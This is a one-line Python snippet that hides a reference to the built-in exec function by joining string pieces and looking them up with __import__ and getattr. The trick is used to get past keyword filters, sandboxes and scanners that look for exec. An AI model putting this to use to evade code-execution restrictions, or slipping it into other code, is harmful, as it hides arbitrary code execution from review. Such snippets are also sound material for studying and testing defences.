f = getattr(__import__("built" + "ins"), "ex" + "ec")
